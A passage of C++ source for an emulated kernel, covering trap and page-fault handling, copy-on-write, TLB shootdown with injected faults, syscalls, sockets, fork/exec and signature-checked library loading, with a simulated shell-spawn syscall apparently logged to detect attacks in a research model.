        ++stats_.soft_tlb_fills;
        stats_.cycles += cfg_.cost.soft_tlb_fill;
        SM_TRACE(trace_ptr_, charge(trace::Category::kSoftTlbFill,
                                    cfg_.cost.soft_tlb_fill, trap.pf.addr));
        SM_TRACE(trace_ptr_,
                 record(trace::EventKind::kSoftTlbFill, trap.pf.addr));
        if (engine_->on_tlb_miss(*this, p, trap.pf) ==
            FaultResolution::kRetry) {
          break;
        }
        // Not a pure fill (page absent, permissions): full fault path.
      }
      ++stats_.page_faults;
      stats_.cycles += cfg_.cost.trap_cost;
      SM_TRACE(trace_ptr_, charge(trace::Category::kPageFaultTrap,
                                  cfg_.cost.trap_cost, trap.pf.addr));
      handle_page_fault(p, trap.pf);
      break;
    }
    case TrapKind::kDebugStep: {
      trace::Scope scope(SM_TRACE_SINK(trace_ptr_),
                         trace::Category::kDebugTrap, cpu().regs().pc);
      SM_TRACE(trace_ptr_, record(trace::EventKind::kTrap, cpu().regs().pc, 0,
                                  static_cast<trace::u8>(trap.kind)));
      stats_.cycles += cfg_.cost.trap_cost;
      SM_TRACE(trace_ptr_,
               charge(trace::Category::kDebugTrap, cfg_.cost.trap_cost));
#if SM_INVARIANT_ENABLED
      if (fault_source_ != nullptr &&
          fault_source_->drop_debug_trap(*this, p)) [[unlikely]] {
        // Injected lost debug interrupt: the CPU consumed the trap but the
        // handler never ran. Clear TF as the (never-run) handler's iret
        // would have; the single-step window is left open for the
        // invariant watchdog to find.
        regs_of(p).set_tf(false);
        break;
      }
#endif
      engine_->on_debug_step(*this, p);
#if SM_INVARIANT_ENABLED
      if (fault_source_ != nullptr &&
          fault_source_->duplicate_debug_trap(*this, p)) [[unlikely]] {
        // Injected spurious duplicate delivery; the handler is idempotent
        // (no pending window left), so this must absorb harmlessly.
        engine_->on_debug_step(*this, p);
      }
#endif
      break;
    }
    case TrapKind::kInvalidOpcode: {
      trace::Scope scope(SM_TRACE_SINK(trace_ptr_),
                         trace::Category::kInvalidOpcodeTrap, cpu().regs().pc);
      SM_TRACE(trace_ptr_, record(trace::EventKind::kTrap, cpu().regs().pc, 0,
                                  static_cast<trace::u8>(trap.kind)));
      ++stats_.invalid_opcode_faults;
      stats_.cycles += cfg_.cost.trap_cost;
      SM_TRACE(trace_ptr_, charge(trace::Category::kInvalidOpcodeTrap,
                                  cfg_.cost.trap_cost));
      const FaultResolution res = engine_->on_invalid_opcode(*this, p);
      if (res == FaultResolution::kUnhandled) {
        kill_process(p, ExitKind::kKilledSigill,
                     "SIGILL: invalid opcode at " + hex(cpu().regs().pc));
      }
      break;
    }
    case TrapKind::kDivideByZero:
      kill_process(p, ExitKind::kKilledSigill,
                   "SIGFPE: divide by zero at " + hex(cpu().regs().pc));
      break;
    case TrapKind::kGeneralProtection:
      kill_process(p, ExitKind::kKilledSigill,
                   "SIGILL: general protection fault at " +
                       hex(cpu().regs().pc));
      break;
  }
}

void Kernel::handle_page_fault(Process& p, const arch::PageFaultInfo& pf) {
  AddressSpace& as = *p.as;
  const Pte pte = as.pt().get(pf.addr);

  if (!pte.present()) {
    const Vma* vma = as.find_vma(pf.addr);
    if (vma == nullptr) {
      kill_process(p, ExitKind::kKilledSigsegv,
                   "SIGSEGV: unmapped address " + hex(pf.addr));
      return;
    }
    if (pf.write && !vma->writable()) {
      kill_process(p, ExitKind::kKilledSigsegv,
                   "SIGSEGV: write to read-only region " + hex(pf.addr));
      return;
    }
    ++stats_.demand_pages;
    stats_.cycles += cfg_.cost.demand_page;
    SM_TRACE(trace_ptr_, charge(trace::Category::kDemandPage,
                                cfg_.cost.demand_page, pf.addr));
    engine_->materialize(*this, p, *vma, pf.addr);
    SM_TRACE(trace_ptr_,
             record(trace::EventKind::kDemandPage, page_floor(pf.addr),
                    p.as->pt().get(pf.addr).pfn()));
    return;  // restart
  }

  // Copy-on-write has priority: "not every PF on a split page is
  // necessarily our fault" (paper §5.2).
  if (pf.write && pte.cow() && !pte.writable()) {
    handle_cow(p, pf.addr);
    return;
  }

  const FaultResolution res = engine_->on_protection_fault(*this, p, pf);
  if (res == FaultResolution::kUnhandled) {
    kill_process(p, ExitKind::kKilledSigsegv,
                 std::string("SIGSEGV: permission violation on ") +
                     (pf.fetch ? "fetch" : (pf.write ? "write" : "read")) +
                     " at " + hex(pf.addr));
  }
}

void Kernel::handle_cow(Process& p, u32 addr) {
  AddressSpace& as = *p.as;
  PageTable pt = as.pt();
  Pte pte = pt.get(addr);
  const u32 vpn = vpn_of(addr);
  ++stats_.cow_copies;
  stats_.cycles += cfg_.cost.cow_copy;
  SM_TRACE(trace_ptr_,
           charge(trace::Category::kCowCopy, cfg_.cost.cow_copy, addr));
  SM_TRACE(trace_ptr_,
           record(trace::EventKind::kCowCopy, page_floor(addr), pte.pfn()));

  const Vma* vma = as.find_vma(addr);
  if (vma == nullptr || !vma->writable()) {
    kill_process(p, ExitKind::kKilledSigsegv,
                 "SIGSEGV: COW fault outside writable region " + hex(addr));
    return;
  }

  if (const SplitPair* pair = as.split_pair(vpn)) {
    SplitPair current = *pair;
    if (pm_.refcount(current.code_frame) > 1 ||
        pm_.refcount(current.data_frame) > 1) {
      SplitPair fresh;
      fresh.code_frame = pm_.alloc_frame();
      fresh.data_frame = pm_.alloc_frame();
      std::ranges::copy(pm_.frame_bytes(current.code_frame),
                        pm_.frame_bytes(fresh.code_frame).begin());
      std::ranges::copy(pm_.frame_bytes(current.data_frame),
                        pm_.frame_bytes(fresh.data_frame).begin());
      pm_.unref_frame(current.code_frame);
      pm_.unref_frame(current.data_frame);
      as.register_split(vpn, fresh);
      pte.set_pfn(pte.pfn() == current.code_frame ? fresh.code_frame
                                                  : fresh.data_frame);
    }
    pte.set(Pte::kWritable);
    pte.clear(Pte::kCow);
    // Re-restrict: a mid-single-step COW break would otherwise leave the
    // PTE user+writable pointing at one frame of the pair, and the
    // invlpg below forces re-walks that bypass the engine's code/data
    // routing. Restricting sends the very next access back through the
    // protection engine; outside a step window the PTE was restricted
    // anyway, so this is a no-op there.
    pte.restrict_supervisor();
    pt.set(addr, pte);
    invalidate_page(p, addr);
    return;
  }

  if (pm_.refcount(pte.pfn()) > 1) {
    const u32 fresh = pm_.alloc_frame();
    std::ranges::copy(pm_.frame_bytes(pte.pfn()),
                      pm_.frame_bytes(fresh).begin());
    pm_.unref_frame(pte.pfn());
    pte.set_pfn(fresh);
  }
  pte.set(Pte::kWritable);
  pte.clear(Pte::kCow);
  pt.set(addr, pte);
  invalidate_page(p, addr);
}

// --------------------------------------------------------------------------
// SMP: TLB shootdown (DESIGN.md §16)
// --------------------------------------------------------------------------

void Kernel::invalidate_page(Process& p, u32 vaddr) {
  mmu().invlpg(vaddr);
  tlb_shootdown(p, vaddr);
}

void Kernel::tlb_shootdown(Process& p, u32 vaddr) {
  if (cores_.size() == 1 || !p.as) return;
  const u32 page = page_floor(vaddr);
  const u32 root = p.as->root();
  // A remote core can only cache this translation if its TLBs were filled
  // under p's page tables, and set_cr3 flushes both TLBs — so CR3 still
  // pointing at p's root is exactly the "may cache it" condition. (An idle
  // core keeps the CR3 of whatever it last ran: the warm-TLB migration
  // hazard this protocol exists for.)
  u32 mask = 0;
  for (u32 t = 0; t < cores_.size(); ++t) {
    if (t == active_core_) continue;
    if (cores_[t]->mmu.cr3() == root) mask |= u32{1} << t;
  }
  if (mask == 0) return;
  ++stats_.tlb_shootdowns;
  SM_TRACE(trace_ptr_, record(trace::EventKind::kTlbShootdown, page, mask));
  u32 pending_mask = 0;
  for (u32 t = 0; t < cores_.size(); ++t) {
    if ((mask & (u32{1} << t)) == 0) continue;
    bool delivered = false;
    for (u32 attempt = 0; attempt < kIpiRetryLimit && !delivered; ++attempt) {
      ++stats_.ipi_sends;
      stats_.cycles += cfg_.cost.ipi;
      SM_TRACE(trace_ptr_, record(trace::EventKind::kIpiSend, page, t));
#if SM_INVARIANT_ENABLED
      if (fault_source_ != nullptr &&
          fault_source_->drop_ipi(*this, p, t, page)) [[unlikely]] {
        continue;  // lost in flight; retry
      }
#endif
      delivered = true;
    }
    if (!delivered) {
      // Retries exhausted: the stale entry is still live on core t. Park
      // the shootdown — opening a single-step window over it violates I7,
      // which the watchdog detects and repairs.
      pending_mask |= u32{1} << t;
      continue;
    }
#if SM_INVARIANT_ENABLED
    if (fault_source_ != nullptr &&
        fault_source_->ack_without_flush(*this, p, t, page)) [[unlikely]] {
      // The target acked but its handler never flushed: a stale entry
      // survives on core t for the watchdog's remote sweep to find (I6).
      ++stats_.ipi_acks;
      SM_TRACE(trace_ptr_, record(trace::EventKind::kIpiAck, page, t));
      continue;
    }
#endif
    cores_[t]->mmu.invlpg(page);
    ++stats_.ipi_acks;
    SM_TRACE(trace_ptr_, record(trace::EventKind::kIpiAck, page, t));
  }
  if (pending_mask != 0) {
    pending_shootdowns_.push_back({vpn_of(page), root, pending_mask});
  }
}

void Kernel::complete_pending_shootdowns() {
  for (const PendingShootdown& ps : pending_shootdowns_) {
    for (u32 t = 0; t < cores_.size(); ++t) {
      if ((ps.core_mask & (u32{1} << t)) == 0) continue;
      // Direct TLB invalidation: the repair path must not be droppable by
      // the same IPI faults that parked the shootdown.
      cores_[t]->mmu.itlb().invalidate(ps.vpn);
      cores_[t]->mmu.dtlb().invalidate(ps.vpn);
    }
  }
  pending_shootdowns_.clear();
}

image::Digest Kernel::final_memory_digest(Process& p) {
  // The digest must be a pure function of guest-visible memory: iterate
  // VMAs in address order (mprotect splits append pieces out of order),
  // read mapped pages through the DATA view (what loads/stores see — the
  // code frame of a split pair is an engine artifact), and synthesize
  // unmapped pages from their backing so demand-paging order and
  // eager_load cannot change the result.
  std::vector<const Vma*> ordered;
  for (const Vma& v : p.as->vmas()) ordered.push_back(&v);
  std::ranges::sort(ordered, {}, [](const Vma* v) { return v->start; });

  GuestMem gm = mem_of(p);
  PageTable pt = p.as->pt();
  image::Sha256 hasher;
  std::array<u8, kPageSize> page_buf;
  for (const Vma* vma : ordered) {
    for (u32 page = vma->start; page < vma->end; page += kPageSize) {
      if (pt.get(page).present()) {
        if (!gm.read(page, page_buf, View::kData)) page_buf.fill(0);
      } else {
        p.as->initial_page_bytes(*vma, page, page_buf);
      }
      const u8 va_bytes[4] = {static_cast<u8>(page), static_cast<u8>(page >> 8),
                              static_cast<u8>(page >> 16),
                              static_cast<u8>(page >> 24)};
      hasher.update(va_bytes);
      hasher.update(page_buf);
    }
  }
  return hasher.final();
}

// --------------------------------------------------------------------------
// Syscalls
// --------------------------------------------------------------------------

void Kernel::do_syscall(Process& p, bool retried) {
  arch::Regs& regs = regs_of(p);
  const u32 num = regs.r[0];
  const u32 a1 = regs.r[1];
  const u32 a2 = regs.r[2];
  const u32 a3 = regs.r[3];

  if (cfg_.record_syscall_trace && !retried) {
    p.syscall_trace.push_back(SyscallRecord{num, a1, a2, a3});
  }

  auto block_on = [&](WaitReason reason, u64 timeout = 0) {
    p.waiting = std::move(reason);
    p.retry_syscall = true;
    p.state = ProcState::kBlocked;
    if (timeout != 0) arm_timer(p, timeout);  // re-blocking re-arms in full
    register_waiter(p);
    deschedule(p);
  };
  // A timed wait that expired re-runs its syscall with timed_out set; the
  // retry consumes the flag exactly once. Data always wins over the
  // timeout: if the wait condition is satisfiable by the time the retry
  // runs, the syscall completes normally and the expiry is invisible.
  auto timed_out_result = [&]() {
    ++stats_.wait_timeouts;
    SM_TRACE(trace_ptr_, record(trace::EventKind::kWaitTimeout, 0, num));
    regs.r[0] = kErrTimedOut;
  };

  switch (num) {
    case kSysExit: {
      log("[exit] pid " + std::to_string(p.pid) + " code " +
          std::to_string(a1));
      deschedule(p);
      if (p.alive()) --live_procs_;
      p.state = ProcState::kZombie;
      p.exit_kind = ExitKind::kExited;
      p.exit_code = a1;
      if (cfg_.capture_exit_digest) p.exit_digest = final_memory_digest(p);
      p.as.reset();
      release_all_fds(p);
      wake_exit_waiters(p);
      if (p.on_runqueue) cores_[p.rq_core]->runqueue.remove(p);
      return;
    }
    case kSysRead: {
      bool blocked = false;
      const u32 n = sys_read(p, a1, a2, a3, blocked);
      if (blocked) {
        block_on(WaitReadFd{a1});
        return;
      }
      regs.r[0] = n;
      return;
    }
    case kSysWrite: {
      bool blocked = false;
      const u32 n = sys_write(p, a1, a2, a3, blocked);
      if (blocked) {
        block_on(WaitWriteFd{a1});
        return;
      }
      regs.r[0] = n;
      return;
    }
    case kSysOpen:
      regs.r[0] = sys_open(p, a1, a2);
      return;
    case kSysClose: {
      if (a1 < p.fds.size()) {
        release_fd(p.fds[a1]);
        p.free_fd(a1);
        regs.r[0] = 0;
      } else {
        regs.r[0] = kErrResult;
      }
      return;
    }
    case kSysSpawnShell:
      regs.r[0] = sys_spawn_shell(p);
      return;
    case kSysFork:
      regs.r[0] = sys_fork(p);
      return;
    case kSysExec:
      regs.r[0] = sys_exec(p, a1);
      return;
    case kSysWaitpid: {
      Process* target = process(a1);
      if (target == nullptr) {
        regs.r[0] = kErrResult;
        return;
      }
      if (target->alive()) {
        block_on(WaitChild{a1});
        return;
      }
      regs.r[0] = target->exit_code;
      return;
    }
    case kSysGetpid:
      regs.r[0] = p.pid;
      return;
    case kSysBrk:
      regs.r[0] = sys_brk(p, a1);
      return;
    case kSysMmap:
      regs.r[0] = sys_mmap(p, a1, a2, a3);
      return;
    case kSysMunmap: {
      const u32 start = page_floor(a1);
      const u32 end = page_ceil(a1 + a2);
      p.as->remove_range(start, end);
      for (u32 va = start; va < end; va += kPageSize) invalidate_page(p, va);
      regs.r[0] = 0;
      return;
    }
    case kSysPipe: {
      if (!ensure_mapped(p, a1, 8)) {
        regs.r[0] = kErrResult;
        return;
      }
      auto pipe = std::make_shared<Pipe>();
      pipe->add_reader();
      pipe->add_writer();
      const u32 rd = p.alloc_fd(FdPipeRead{pipe});
      const u32 wr = p.alloc_fd(FdPipeWrite{pipe});
      GuestMem gm = mem_of(p);
      gm.write32(a1, rd);
      gm.write32(a1 + 4, wr);
      regs.r[0] = 0;
      return;
    }
    case kSysYield: {
      deschedule(p);
      cores_[active_core_]->runqueue.push_back(p);
      return;
    }
    case kSysTime:
      regs.r[0] = static_cast<u32>(stats_.cycles);
      return;
    case kSysMprotect:
      regs.r[0] = sys_mprotect(p, a1, a2, a3);
      return;
    case kSysDlopen:
      regs.r[0] = sys_dlopen(p, a1);
      return;
    case kSysRegisterRecovery:
      p.recovery_handler = a1;
      regs.r[0] = 0;
      return;
    case kSysRand:
      regs.r[0] = rng_next();
      return;
    case kSysSelect2: {
      // select2(fd_a, fd_b) -> which of the two is readable (0 or 1),
      // blocking until one is. fd_a has priority when both are ready, so a
      // server can drain its command stream before accepting new work.
      if (fd_readable(p, a1)) {
        regs.r[0] = 0;
        return;
      }
      if (fd_readable(p, a2)) {
        regs.r[0] = 1;
        return;
      }
      block_on(WaitSelect2{a1, a2});
      return;
    }
    case kSysSleep: {
      // sleep(cycles): park until the deadline. Returns 0.
      if (std::exchange(p.timed_out, false)) {
        regs.r[0] = 0;
        return;
      }
      if (a1 == 0) {
        regs.r[0] = 0;
        return;
      }
      ++stats_.sleeps;
      block_on(WaitSleep{}, a1);
      return;
    }
    case kSysListen:
      regs.r[0] = sys_listen(p, a1, a2);
      return;
    case kSysConnect:
      regs.r[0] = sys_connect(p, a1);
      return;
    case kSysAccept: {
      // accept(listen_fd, timeout) -> connected socket fd, ERR_TIMEDOUT
      // when the deadline passes first, ERR_RESULT on a non-listen fd.
      const bool expired = std::exchange(p.timed_out, false);
      if (a1 >= p.fds.size() ||
          !std::holds_alternative<FdListen>(p.fds[a1])) {
        regs.r[0] = kErrResult;
        return;
      }
      ListenSock& sock = *std::get<FdListen>(p.fds[a1]).sock;
      if (!sock.backlog.empty()) {
        ListenSock::PendingConn conn = sock.backlog.front();
        sock.backlog.pop_front();
        ++stats_.sock_accepts;
        SM_TRACE(trace_ptr_,
                 record(trace::EventKind::kSockAccept, sock.port,
                        static_cast<u32>(sock.backlog.size())));
        // Server side: reads what the client wrote (c2s), writes replies
        // (s2c). The backlog's pipe-end references transfer to the fd.
        regs.r[0] = p.alloc_fd(FdSock{conn.c2s, conn.s2c});
        return;
      }
      if (expired) {
        timed_out_result();
        return;
      }
      block_on(WaitReadFd{a1}, a2);
      return;
    }
    case kSysReadT: {
      // read_t(fd, buf, len, timeout): SYS_READ plus a deadline. A
      // separate number — the legacy form's unused argument registers
      // carry live garbage in existing guests.
      const bool expired = std::exchange(p.timed_out, false);
      bool blocked = false;
      const u32 n = sys_read(p, a1, a2, a3, blocked);
      if (blocked) {
        if (expired) {
          timed_out_result();
          return;
        }
        block_on(WaitReadFd{a1}, regs.r[4]);
        return;
      }
      regs.r[0] = n;
      return;
    }
    case kSysSelect2T: {
      // select2_t(fd_a, fd_b, timeout): SYS_SELECT2 plus a deadline.
      const bool expired = std::exchange(p.timed_out, false);
      if (fd_readable(p, a1)) {
        regs.r[0] = 0;
        return;
      }
      if (fd_readable(p, a2)) {
        regs.r[0] = 1;
        return;
      }
      if (expired) {
        timed_out_result();
        return;
      }
      block_on(WaitSelect2{a1, a2}, a3);
      return;
    }
    default:
      log("[syscall] pid " + std::to_string(p.pid) + " bad syscall " +
          std::to_string(num));
      regs.r[0] = kErrResult;
      return;
  }
}

u32 Kernel::sys_read(Process& p, u32 fd, u32 buf, u32 len, bool& blocked) {
  if (fd >= p.fds.size()) return kErrResult;
  if (len == 0) return 0;
  if (!ensure_mapped(p, buf, len)) return kErrResult;
  std::vector<u8> tmp(len);
  u32 n = 0;

  if (auto* c = std::get_if<FdChannel>(&p.fds[fd])) {
    if (c->chan->guest_readable() == 0) {
      if (c->chan->guest_eof()) return 0;
      blocked = true;
      return 0;
    }
    n = c->chan->guest_read(std::span<u8>(tmp.data(), len));
    if (p.shell_spawned && shell_input_logger) {
      SM_TRACE(trace_ptr_, record(trace::EventKind::kSebekInput, 0, n));
      shell_input_logger(
          p, std::string(reinterpret_cast<char*>(tmp.data()), n));
    }
  } else if (auto* pr = std::get_if<FdPipeRead>(&p.fds[fd])) {
    if (pr->pipe->readable() == 0) {
      if (pr->pipe->eof()) return 0;
      blocked = true;
      return 0;
    }
    n = pr->pipe->read(std::span<u8>(tmp.data(), len));
    // Handoff: bytes left behind belong to the next sleeping reader, and
    // the space just freed lets one sleeping writer make progress.
    if (pr->pipe->readable() > 0) wake_one(pr->pipe->read_waiters);
    wake_one(pr->pipe->write_waiters);
  } else if (auto* sk = std::get_if<FdSock>(&p.fds[fd])) {
    if (sk->rx->readable() == 0) {
      if (sk->rx->eof()) return 0;
      blocked = true;
      return 0;
    }
    n = sk->rx->read(std::span<u8>(tmp.data(), len));
    if (sk->rx->readable() > 0) wake_one(sk->rx->read_waiters);
    wake_one(sk->rx->write_waiters);
  } else if (auto* f = std::get_if<FdFile>(&p.fds[fd])) {
    const auto& bytes = f->node->bytes;
    if (f->offset >= bytes.size()) return 0;
    n = std::min<u32>(len, static_cast<u32>(bytes.size()) - f->offset);
    std::memcpy(tmp.data(), bytes.data() + f->offset, n);
    f->offset += n;
  } else if (std::holds_alternative<FdConsole>(p.fds[fd])) {
    return 0;
  } else {
    return kErrResult;
  }

  GuestMem gm = mem_of(p);
  if (!gm.write(buf, std::span<const u8>(tmp.data(), n))) return kErrResult;
  return n;
}

u32 Kernel::sys_write(Process& p, u32 fd, u32 buf, u32 len, bool& blocked) {
  if (fd >= p.fds.size()) return kErrResult;
  if (len == 0) return 0;
  if (!ensure_mapped(p, buf, len)) return kErrResult;
  std::vector<u8> tmp(len);
  GuestMem gm = mem_of(p);
  if (!gm.read(buf, std::span<u8>(tmp.data(), len))) return kErrResult;

  if (auto* c = std::get_if<FdChannel>(&p.fds[fd])) {
    c->chan->guest_write(tmp);
    return len;
  }
  if (auto* pw = std::get_if<FdPipeWrite>(&p.fds[fd])) {
    if (pw->pipe->read_closed()) return kErrResult;  // EPIPE
    const u32 n = pw->pipe->write(tmp);
    if (n == 0) {
      blocked = true;
      return 0;
    }
    // Wake exactly one sleeping reader — it hands off to the next if it
    // leaves bytes behind, so a fan-in pipe never thunders the herd. Any
    // space still left can also admit one more sleeping writer.
    wake_one(pw->pipe->read_waiters);
    if (pw->pipe->writable() > 0) wake_one(pw->pipe->write_waiters);
    return n;
  }
  if (auto* sk = std::get_if<FdSock>(&p.fds[fd])) {
    if (sk->tx->read_closed()) return kErrResult;  // EPIPE
    const u32 n = sk->tx->write(tmp);
    if (n == 0) {
      blocked = true;
      return 0;
    }
    wake_one(sk->tx->read_waiters);
    if (sk->tx->writable() > 0) wake_one(sk->tx->write_waiters);
    return n;
  }
  if (std::holds_alternative<FdConsole>(p.fds[fd])) {
    p.console.append(reinterpret_cast<char*>(tmp.data()), len);
    return len;
  }
  if (auto* f = std::get_if<FdFile>(&p.fds[fd])) {
    if (!f->writable) return kErrResult;
    auto& bytes = f->node->bytes;
    if (f->offset + len > bytes.size()) bytes.resize(f->offset + len);
    std::memcpy(bytes.data() + f->offset, tmp.data(), len);
    f->offset += len;
    return len;
  }
  return kErrResult;
}

// --------------------------------------------------------------------------
// Sockets
//
// A deliberately small model of the paper's network-facing server: one
// namespace of ports, a bounded accept backlog per listener, and connect()
// that REFUSES (never blocks) when the backlog is full — overload is
// visible at the edge, where a real SYN queue would drop, instead of
// accumulating invisibly inside the kernel.
// --------------------------------------------------------------------------

u32 Kernel::sys_listen(Process& p, u32 port, u32 backlog) {
  if (listen_ports_.contains(port)) return kErrResult;  // port in use
  auto sock = std::make_shared<ListenSock>();
  sock->port = port;
  sock->capacity = std::clamp<u32>(backlog, 1, 1024);
  sock->refs = 1;
  listen_ports_.emplace(port, sock);
  return p.alloc_fd(FdListen{std::move(sock)});
}

u32 Kernel::sys_connect(Process& p, u32 port) {
  const auto it = listen_ports_.find(port);
  if (it == listen_ports_.end() || it->second->full()) {
    ++stats_.sock_refused;
    SM_TRACE(trace_ptr_,
             record(trace::EventKind::kSockRefused, port,
                    it == listen_ports_.end()
                        ? 0
                        : static_cast<u32>(it->second->backlog.size())));
    return kErrRefused;
  }
#if SM_INVARIANT_ENABLED
  if (fault_source_ != nullptr &&
      fault_source_->drop_connection(*this, p, port)) [[unlikely]] {
    // Injected in-flight drop: indistinguishable from a full backlog to
    // the caller, so the same retry/backoff path must absorb it.
    ++stats_.sock_refused;
    SM_TRACE(trace_ptr_,
             record(trace::EventKind::kSockRefused, port,
                    static_cast<u32>(it->second->backlog.size()), 1));
    return kErrRefused;
  }
#endif
  ListenSock& sock = *it->second;
  auto c2s = std::make_shared<Pipe>();
  auto s2c = std::make_shared<Pipe>();
  c2s->add_writer();  // client tx ............. released with the client fd
  c2s->add_reader();  // server rx ....... held by the backlog until accept()
  s2c->add_reader();  // client rx
  s2c->add_writer();  // server tx
  sock.backlog.push_back({c2s, s2c});
  ++stats_.sock_connects;
  stats_.sock_backlog_peak =
      std::max<u64>(stats_.sock_backlog_peak, sock.backlog.size());
  SM_TRACE(trace_ptr_,
           record(trace::EventKind::kSockConnect, port,
                  static_cast<u32>(sock.backlog.size())));
  // The queued connection may satisfy a parked accept()/select2.
  wake_one(sock.accept_waiters);
  return p.alloc_fd(FdSock{s2c, c2s});
}

u32 Kernel::sys_open(Process& p, u32 path_ptr, u32 flags) {
  GuestMem gm = mem_of(p);
  ensure_mapped(p, path_ptr, 1);
  const auto path = gm.read_cstr(path_ptr);
  if (!path) return kErrResult;
  std::shared_ptr<FileNode> node;
  if (flags & kOpenWrite) {
    node = fs_.create(*path, /*truncate=*/true);
  } else {
    node = fs_.lookup(*path);
    if (node == nullptr) return kErrResult;
  }
  return p.alloc_fd(FdFile{node, 0, (flags & kOpenWrite) != 0});
}

u32 Kernel::sys_brk(Process& p, u32 new_end) {
  AddressSpace& as = *p.as;
  if (new_end == 0) return as.brk_end;
  if (new_end < as.brk_end) return as.brk_end;  // shrink: ignored
  const u32 new_top = page_ceil(new_end);
  Vma* heap = nullptr;
  for (Vma& v : as.vmas()) {
    if (v.kind == VmaKind::kHeap) heap = &v;
  }
  if (heap == nullptr) {
    if (new_top > kHeapBase) {
      Vma vma;
      vma.start = kHeapBase;
      vma.end = new_top;
      vma.prot = kProtR | kProtW;
      vma.kind = VmaKind::kHeap;
      vma.name = "heap";
      as.add_vma(std::move(vma));
    }
  } else if (new_top > heap->end) {
    heap->end = new_top;
  }
  as.brk_end = new_end;
  return as.brk_end;
}

u32 Kernel::sys_mmap(Process& p, u32 hint, u32 len, u32 prot) {
  if (len == 0) return kErrResult;
  const u32 size = page_ceil(len);
  AddressSpace& as = *p.as;
  u32 base = 0;
  if (hint != 0 && (hint & arch::kPageMask) == 0) {
    const bool free = std::ranges::none_of(as.vmas(), [&](const Vma& v) {
      return hint < v.end && v.start < hint + size;
    });
    if (free) base = hint;
  }
  if (base == 0) {
    try {
      base = as.find_mmap_gap(size);
    } catch (const std::exception&) {
      return kErrResult;
    }
  }
  Vma vma;
  vma.start = base;
  vma.end = base + size;
  vma.prot = prot;
  vma.kind = VmaKind::kMmap;
  vma.name = "mmap";
  as.add_vma(std::move(vma));
  return base;
}

u32 Kernel::sys_mprotect(Process& p, u32 addr, u32 len, u32 prot) {
  if (len == 0) return 0;
  const u32 start = page_floor(addr);
  const u32 end = page_ceil(addr + len);
  AddressSpace& as = *p.as;
  Vma* vma = as.find_vma(start);
  if (vma == nullptr || end > vma->end) return kErrResult;

  if (vma->start != start || vma->end != end) {
    // Split the VMA so exactly [start,end) changes protection.
    Vma middle = *vma;
    Vma left = *vma;
    Vma right = *vma;
    const Vma original = *vma;
    std::vector<Vma> pieces;
    if (original.start < start) {
      left.end = start;
      pieces.push_back(left);
    }
    middle.start = start;
    middle.end = end;
    middle.backing_offset =
        original.backing_offset + (start - original.start);
    pieces.push_back(middle);
    if (original.end > end) {
      right.start = end;
      right.backing_offset = original.backing_offset + (end - original.start);
      pieces.push_back(right);
    }
    // Replace in place.
    auto& vmas = as.vmas();
    const auto it = std::ranges::find_if(
        vmas, [&](const Vma& v) { return v.start == original.start; });
    vmas.erase(it);
    for (Vma& piece : pieces) vmas.push_back(piece);
    vma = as.find_vma(start);
  }
  vma->prot = prot;
  engine_->on_mprotect(*this, p, *vma, start, end);
  return 0;
}

u32 Kernel::sys_fork(Process& parent) {
  auto childp = std::make_unique<Process>();
  Process& child = *childp;
  child.pid = next_pid_++;
  child.parent = parent.pid;
  child.name = parent.name;
  child.fds = parent.fds;  // shared channel/pipe/file objects
  child.free_fds = parent.free_fds;  // same holes, same reuse order
  retain_fds(child.fds);
  child.as = std::make_unique<AddressSpace>(pm_);
  child.as->brk_end = parent.as->brk_end;
  child.as->vmas() = parent.as->vmas();
  child.as->split_pages() = parent.as->split_pages();

  PageTable ppt = parent.as->pt();
  PageTable cpt = child.as->pt();
  std::vector<std::pair<u32, Pte>> mappings;
  ppt.for_each_mapping(
      [&](u32 vaddr, Pte pte) { mappings.emplace_back(vaddr, pte); });
  for (auto& [vaddr, pte] : mappings) {
    const u32 vpn = vpn_of(vaddr);
    if (const SplitPair* pair = parent.as->split_pair(vpn)) {
      pm_.ref_frame(pair->code_frame);
      pm_.ref_frame(pair->data_frame);
    } else {
      pm_.ref_frame(pte.pfn());
    }
    Pte shared = pte;
    if (shared.writable()) {
      shared.clear(Pte::kWritable);
      shared.set(Pte::kCow);
    } else if (shared.cow()) {
      // Already COW from an earlier fork: keep as is.
    }
    ppt.set(vaddr, shared);
    cpt.set(vaddr, shared);
    // Drop cached writable entries for the parent — on every core that may
    // hold them, not just the one running the fork.
    invalidate_page(parent, vaddr);
  }

  child.regs = regs_of(parent);
  child.regs.r[0] = 0;  // fork() returns 0 in the child
  child.state = ProcState::kRunnable;
  const Pid cpid = child.pid;
  procs_.push_back(std::move(childp));
  ++live_procs_;
  home_core(child).runqueue.push_back(child);
  engine_->on_fork(*this, parent, child);
  return cpid;
}

u32 Kernel::sys_exec(Process& p, u32 path_ptr) {
  GuestMem gm = mem_of(p);
  ensure_mapped(p, path_ptr, 1);
  const auto path = gm.read_cstr(path_ptr);
  if (!path) return kErrResult;
  const image::Image* img = find_image(*path);
  if (img == nullptr) return kErrResult;
  if (!image_allowed(*img)) {
    log("[exec] pid " + std::to_string(p.pid) + " refused " + *path +
        ": bad signature");
    return kErrResult;
  }
  load_into(p, *img);
  // The syscall path runs with p current: activate the fresh address space.
  regs_of(p) = p.regs;
  mmu().set_cr3(p.as->root());
  return 0;  // "returns" into the new program at its entry point
}

u32 Kernel::sys_dlopen(Process& p, u32 path_ptr) {
  GuestMem gm = mem_of(p);
  ensure_mapped(p, path_ptr, 1);
  const auto path = gm.read_cstr(path_ptr);
  if (!path) return kErrResult;
  const image::Image* img = find_image(*path);
  if (img == nullptr) return kErrResult;
  if (!image_allowed(*img)) {
    log("[dlopen] pid " + std::to_string(p.pid) + " refused " + *path +
        ": bad signature (DigSig-style verification)");
    return kErrResult;
  }
  u32 base = UINT32_MAX;
  try {
    for (const image::Segment& seg : img->segments) {
      Vma vma;
      vma.start = page_floor(seg.vaddr);
      vma.end = page_ceil(seg.vaddr + seg.mem_size);
      vma.prot = seg.prot;
      vma.kind = VmaKind::kLibrary;
      vma.name = img->name + ":" + seg.name;
      vma.backing = std::make_shared<const std::vector<u8>>(seg.bytes);
      vma.backing_offset = 0;
      const u32 seg_start = vma.start;
      p.as->add_vma(std::move(vma));
      base = std::min(base, seg_start);
    }
  } catch (const std::invalid_argument&) {
    return kErrResult;  // overlap with existing mappings
  }
  log("[dlopen] pid " + std::to_string(p.pid) + " loaded " + *path);
  return base;
}

u32 Kernel::sys_spawn_shell(Process& p) {
  p.shell_spawned = true;
  log("[SHELL] pid " + std::to_string(p.pid) + " (" + p.name +
      ") spawned a shell at cycle " + std::to_string(stats_.cycles));
  // The shell inherits the process' network socket, as connect-back
